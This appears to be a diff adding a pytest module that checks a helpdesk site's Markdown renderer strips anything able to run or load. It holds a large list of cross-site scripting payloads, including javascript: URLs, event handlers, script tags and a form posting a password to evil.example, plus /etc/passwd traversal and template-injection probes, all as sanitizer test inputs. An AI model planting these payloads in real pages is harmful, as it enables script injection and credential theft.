@@ -1,0 +1,257 @@
+"""Documents as HTML: what stays of Markdown, and that nothing in it can act."""
+
+import random
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from selectolax.lexbor import LexborHTMLParser
+
+from helpdesk.knowledge.pages import slug_of
+from helpdesk.site import markdown
+from tests.support.rules import for_each
+
+ADDRESSES = [
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    " javascript:alert(1)",
+    "java\tscript:alert(1)",
+    "javascript&colon;alert(1)",
+    "&#106;avascript:alert(1)",
+    "&#x6a;avascript&#58;alert(1)",
+    "vbscript:msgbox(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "data:image/svg+xml,<svg onload=alert(1)>",
+    "//evil.example/x",
+    "\\\\evil.example\\x",
+    "file:///etc/passwd",
+    "page:../../../../v1/logs",
+    "x:javascript:alert(1)",
+    "blob:https://example.com/1",
+    "jar:https://example.com!/",
+    "feed:javascript:alert(1)",
+    "%6aavascript:alert(1)",
+]
+FRAMES = [
+    "[click]({})",
+    "[click](<{}>)",
+    '![image]({} "title")',
+    "<{}>",
+    "[click][r]\n\n[r]: {}",
+    '<a href="{}">x</a>',
+    "<a href='{}'>x</a>",
+    "<a href={}>x</a>",
+    '<img src="{}">',
+]
+TAGS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=https://a.example/x onload=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=x></object>",
+    "<embed src=x>",
+    "<form action=https://evil.example><input name=password><button>Go</button></form>",
+    "<base href=https://evil.example/>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>*{background:url(https://evil.example)}</style>",
+    "<div style='position:fixed;inset:0'>x</div>",
+    "<div class=site-header id=content>x</div>",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<video><source onerror=alert(1)></video>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<a href=x onmouseover=alert(1)>x</a>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version='1.0'?><script>alert(1)</script>",
+    "</div></main><script>alert(1)</script>",
+    "<p tabindex=5 contenteditable>x</p>",
+    "<a target=_blank href=https://a.example ping=https://evil.example>x</a>",
+    '```html"><script>alert(1)</script>\ncode\n```',
+    '```"><img src=x onerror=alert(1)>\ncode\n```',
+    ":::tip <script>alert(1)</script>\nx\n:::",
+    ":::tip\n</div></div></div><script>alert(1)</script>",
+    "# <script>alert(1)</script>\n\ntext",
+    '## x" onclick="alert(1)\n\ntext',
+    "| a | <script>alert(1)</script> |\n|---|---|\n| <img src=x onerror=alert(1)> | b |",
+    "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7}",
+]
+HOSTILE = [
+    *(frame.format(address) for frame in FRAMES for address in ADDRESSES),
+    *TAGS,
+    *(f"> - {tag}\n> - `x`" for tag in TAGS),
+]
+ALLOWED = markdown._TAGS
+ATTRIBUTES = {
+    "title",
+    "lang",
+    "dir",
+    "href",
+    "src",
+    "alt",
+    "width",
+    "height",
+    "loading",
+    "start",
+    "value",
+    "align",
+} | {
+    "colspan",
+    "rowspan",
+    "scope",
+    "open",
+    "id",
+    "tabindex",
+    "class",
+    "rel",
+}
+
+
+def acts(html: str) -> list[str]:
+    """Return what in a piece of HTML could run, load, embed, submit or look like the page around it."""
+    found: list[str] = []
+    for node in LexborHTMLParser(f"<!doctype html><body><article>{html}</article></body>").css("article *"):
+        if node.tag not in ALLOWED:
+            found.append(f"<{node.tag}>")
+        for name, value in node.attributes.items():
+            text = value or ""
+            if name not in ATTRIBUTES:
+                found.append(f"{node.tag} {name}")
+            if name == "href" and not re.match(r"(https?://|mailto:|page:|/site/acme/x$|#|%|[^:/]*$)", text):
+                found.append(f"href {text}")
+            if name == "src" and not text.startswith("https://"):
+                found.append(f"src {text}")
+            if name == "id" and text != slug_of(text):
+                found.append(f"id {text}")
+            if name == "class" and re.search("site-|skip|toc|folders", text):
+                found.append(f"class {text}")
+    return found
+
+
+def test_there_are_more_than_200_hostile_documents() -> None:
+    assert len(set(HOSTILE)) > 200
+
+
+@for_each("text", HOSTILE, ids=[str(number) for number in range(len(HOSTILE))])
+def test_a_hostile_document_executes_nothing(text: str) -> None:
+    html = markdown.resolved(markdown.render("Title", text, path="a/b.md").html, lambda _: "/site/acme/x")
+
+    assert acts(html) == []
+    assert html.count("</article") == 0
+
+
+PIECES = [*HOSTILE, "<", ">", '"', "'", "`", "\n", "&", "<a ", "<!--", "-->", "]]>"]
+
+
+@given(st.lists(st.sampled_from(PIECES), max_size=6))
+def test_no_mixture_of_hostile_pieces_acts(pieces: list[str]) -> None:
+    assert acts(markdown.render("Title", "".join(pieces)).html) == []
+
+
+@given(st.text(max_size=300))
+def test_any_text_is_rendered(text: str) -> None:
+    assert acts(markdown.render("Title", text).html) == []
+
+
+@pytest.mark.parametrize(
+    "piece",
+    [
+        "[" * 5_000,
+        "![" * 5_000,
+        "*a " * 5_000,
+        "> " * 2_000,
+        "<div>" * 3_000,
+        "`" * 9_999,
+        "|" * 9_999,
+        "- " * 3_000,
+    ],
+)
+def test_a_text_made_to_take_long_does_not(piece: str) -> None:
+    assert len(markdown.render("Title", piece).html) < 2_000_000
+
+
+def test_headings_begin_at_the_second_level_without_gaps_and_have_ids_of_their_own() -> None:
+    made = markdown.render("Title", "# Title\n\n### A\n\n##### A\n\n# B\n\n## C\n\ntext")
+
+    levels = re.findall(r'<(h\d) id="([^"]+)"', made.html)
+    assert levels == [("h2", "a"), ("h3", "a-2"), ("h2", "b"), ("h3", "c")]
+    assert [(each.level, each.text) for each in made.headings] == [(2, "A"), (3, "A"), (2, "B"), (3, "C")]
+
+
+def test_a_first_heading_that_is_not_the_title_stays() -> None:
+    assert "<h2" in markdown.render("Title", "# Another\n\ntext").html
+
+
+def test_code_is_coloured_by_classes_and_unknown_languages_stay_plain() -> None:
+    known = markdown.render("T", "```python title=x\nprint(1 < 2)\n```").html
+    unknown = markdown.render("T", "```nonsense\n<b>\n```").html
+
+    assert '<span class="nb">print</span>' in known
+    assert '<pre class="code" tabindex="0"><code>&lt;b&gt;\n</code></pre>' in unknown
+    assert "style=" not in known
+
+
+def test_a_box_of_a_documentation_tool_is_a_box() -> None:
+    html = markdown.render("T", ":::tip Good to know\n\nUse *this*.\n\n:::\n\nAfter.").html
+
+    box = LexborHTMLParser(html).css_first("div.admonition.tip")
+    assert box is not None
+    assert [each.text() for each in box.css("p")] == ["Good to know", "Use this."]
+    assert "<p>After.</p>" in html
+
+
+def test_a_box_in_code_stays_code() -> None:
+    assert ":::tip" in markdown.render("T", "```\n:::tip\n```\n\n:::\n").html
+
+
+@pytest.mark.parametrize(
+    ("href", "target"),
+    [
+        ("b.md", "page:guides/b.md"),
+        ("../c.md#x", "page:c.md#x"),
+        ("/d/e.md", "page:d/e.md"),
+        ("../../../../etc/passwd", "page:../../../etc/passwd"),
+        ("#here", "#here"),
+        ("https://a.example/x", "https://a.example/x"),
+    ],
+)
+def test_a_relative_link_names_the_file(href: str, target: str) -> None:
+    html = markdown.render("T", f"[x]({href})", path="guides/a.md").html
+
+    assert f'href="{target}"' in html.replace("page:../../../etc", "page:../../../etc")
+
+
+def test_a_relative_link_of_a_page_elsewhere_leads_beside_it() -> None:
+    html = markdown.render("T", "[x](b)\n\n![y](i.png)", url="https://docs.example/a/").html
+
+    assert 'href="https://docs.example/a/b"' in html
+    assert 'src="https://docs.example/a/i.png"' in html
+
+
+def test_an_image_without_https_shows_its_words() -> None:
+    assert "src=" not in markdown.render("T", "![A cat](http://a.example/c.png)").html
+
+
+def test_front_matter_is_not_shown() -> None:
+    assert markdown.render("T", "---\ntitle: x\n---\n\nHello").html.strip() == "<p>Hello</p>"
+
+
+def test_the_description_is_the_first_paragraph_cut_at_a_word() -> None:
+    words = " ".join(random.Random(1).choice(["alpha", "beta"]) for _ in range(60))
+
+    description = markdown.render("T", f"# T\n\n![](https://a.example/i.png)\n\n{words}").description
+
+    assert len(description) <= 160
+    assert description.endswith("…")
+    assert words.startswith(description[:-1])
